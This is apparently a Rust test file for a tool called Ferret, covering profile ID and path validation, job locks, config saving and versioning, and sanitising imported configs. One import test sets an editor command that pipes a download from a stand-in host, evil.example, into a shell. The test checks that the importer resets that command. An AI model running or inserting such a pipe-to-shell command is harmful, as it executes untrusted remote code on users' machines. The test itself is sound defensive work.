use super::*;

#[test]
fn profile_ids_are_validated() {
    for good in ["default", "gh-12345", "a_b", "x"] {
        validate_profile_id(good).unwrap();
    }
    for bad in ["", "..", "a/b", "A", "a b", "a\\b", &"x".repeat(65), "é"] {
        assert!(validate_profile_id(bad).is_err(), "{bad:?} accepted");
    }
}

#[test]
fn paths_stay_under_the_data_root() {
    let paths = ProfilePaths::new(Path::new("/data"), "default").unwrap();
    assert_eq!(
        paths.meta_db(),
        Path::new("/data/user_data/default/meta.sqlite")
    );
    assert!(ProfilePaths::new(Path::new("/data"), "../etc").is_err());
}

#[test]
fn job_lock_is_exclusive_and_released_on_drop() {
    let dir = tempfile::tempdir().unwrap();
    let paths = ProfilePaths::new(dir.path(), "p").unwrap();
    paths.ensure_dirs().unwrap();
    assert!(!JobLock::is_held(&paths));
    let lock = JobLock::acquire(&paths).unwrap();
    assert!(JobLock::is_held(&paths));
    let err = JobLock::acquire(&paths).err().unwrap().to_string();
    assert!(err.contains("busy"), "{err}");
    drop(lock);
    assert!(!JobLock::is_held(&paths));
    JobLock::acquire(&paths).unwrap();
}

#[test]
fn config_saves_atomically_and_round_trips() {
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("config.json");
    let mut config = ProfileConfig::default();
    config.limits.max_repos = 3;
    config.save(&file).unwrap();
    assert_eq!(ProfileConfig::load(&file).unwrap(), config);
    assert!(!dir.path().join("config.json.tmp").exists());
}

#[test]
fn config_format_is_written_and_a_newer_one_is_refused_untouched() {
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("config.json");
    std::fs::write(&file, r#"{"max_file_bytes": 10}"#).unwrap();
    let old = ProfileConfig::load(&file).unwrap();
    assert_eq!(
        old.format_version, 1,
        "a file without a version is format 1"
    );
    old.save(&file).unwrap();
    let saved: serde_json::Value = serde_json::from_slice(&std::fs::read(&file).unwrap()).unwrap();
    assert_eq!(saved["format_version"], CONFIG_FORMAT);
    assert_eq!(saved["max_file_bytes"], 10);

    for newer in [
        format!(
            r#"{{"format_version": {}, "max_file_bytes": 10}}"#,
            CONFIG_FORMAT + 1
        ),
        // A newer format may change a field's type: still refused as newer.
        format!(
            r#"{{"format_version": {}, "excludes": "x"}}"#,
            CONFIG_FORMAT + 1
        ),
    ] {
        std::fs::write(&file, &newer).unwrap();
        let err = ProfileConfig::load(&file).unwrap_err();
        assert_eq!(err.kind(), crate::ErrorKind::Refused, "{err}");
        let text = err.to_string();
        assert!(
            text.contains("newer Ferret") && text.contains("upgrade Ferret"),
            "{text}"
        );
        assert_eq!(std::fs::read_to_string(&file).unwrap(), newer);
    }
}

/// An imported `config.json` keeps what cannot hurt, resets what runs programs, loads
/// libraries, opens files without asking or indexes credentials, and says which; values
/// `profile set` would refuse fall back to their defaults, each named.
#[test]
fn an_imported_config_keeps_only_safe_settings_and_says_what_it_reset() {
    let imported = ProfileConfig {
        editor: EditorKind::Custom,
        editor_command: Some("sh -c 'curl -s https://evil.example | sh' {path}".into()),
        model_dir: Some(PathBuf::from("/tmp/evil-models")),
        link_open_repo_ids: vec![3],
        legacy_link_open_repos: vec!["notes".into()],
        index_secret_files: true,
        excludes: vec!["*.min.js".into(), "[z-a]".into()],
        max_file_bytes: u64::MAX,
        fetch_interval_mins: u64::MAX,
        index_threads: 3,
        snapshots_kept: 5,
        ..ProfileConfig::default()
    };
    let settled = ProfileConfig::from_import(&imported);
    let expected = ProfileConfig {
        excludes: vec!["*.min.js".into()],
        index_threads: 3,
        snapshots_kept: 5,
        ..ProfileConfig::default()
    };
    assert_eq!(settled.config, expected);
    let mut reset = settled.reset_for_safety.clone();
    reset.sort();
    assert_eq!(
        reset,
        [
            "editor",
            "editor_command",
            "index_secret_files",
            "link_open_repo_ids",
            "link_open_repos",
            "model_dir"
        ]
    );
    let invalid = settled.reset_as_invalid.join("\n");
    for named in ["max_file_bytes", "fetch_interval_mins", "\"[z-a]\""] {
        assert!(invalid.contains(named), "{named}: {invalid}");
    }
    settled.config.validate().unwrap();

    // A named editor runs a fixed program: kept. Nothing else set: nothing reported.
    let plain = ProfileConfig {
        editor: EditorKind::Neovim,
        ..ProfileConfig::default()
    };
    let settled = ProfileConfig::from_import(&plain);
    assert_eq!(settled.config, plain);
    assert!(settled.reset_for_safety.is_empty() && settled.reset_as_invalid.is_empty());
}

#[test]
fn settings_out_of_range_are_refused_naming_the_setting() {
    ProfileConfig::default().validate().unwrap();
    let too_often = ProfileConfig {
        fetch_interval_mins: u64::MAX,
        ..ProfileConfig::default()
    };
    let err = too_often.validate().unwrap_err();
    assert_eq!(err.kind(), crate::ErrorKind::InvalidInput);
    assert!(err.to_string().contains("fetch_interval_mins"), "{err}");
    let bad_exclude = ProfileConfig {
        excludes: vec!["ok/".into(), "[z-a]".into()],
        ..ProfileConfig::default()
    };
    assert!(bad_exclude
        .validate()
        .unwrap_err()
        .to_string()
        .contains("\"[z-a]\""));
}

#[test]
fn config_defaults_and_errors() {
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("config.json");
    assert_eq!(
        ProfileConfig::load(&file).unwrap(),
        ProfileConfig::default()
    );
    std::fs::write(&file, r#"{"max_file_bytes": 10}"#).unwrap();
    let old = ProfileConfig::load(&file).unwrap();
    assert_eq!(old.max_file_bytes, 10);
    assert_eq!(
        old.editor,
        EditorKind::Vscode,
        "older files get the default editor"
    );
    assert_eq!(old.editor_command, None);
    std::fs::write(
        &file,
        r#"{"editor": "custom", "editor_command": "kate {path}"}"#,
    )
    .unwrap();
    let custom = ProfileConfig::load(&file).unwrap();
    assert_eq!(custom.editor, EditorKind::Custom);
    assert_eq!(custom.editor_command.as_deref(), Some("kate {path}"));
    std::fs::write(&file, r#"{"editor": "notepad"}"#).unwrap();
    assert!(
        ProfileConfig::load(&file).is_err(),
        "an unknown editor is an error"
    );
    std::fs::write(&file, "{oops").unwrap();
    let err = ProfileConfig::load(&file).unwrap_err().to_string();
    assert!(err.contains("config.json"), "{err}");
}
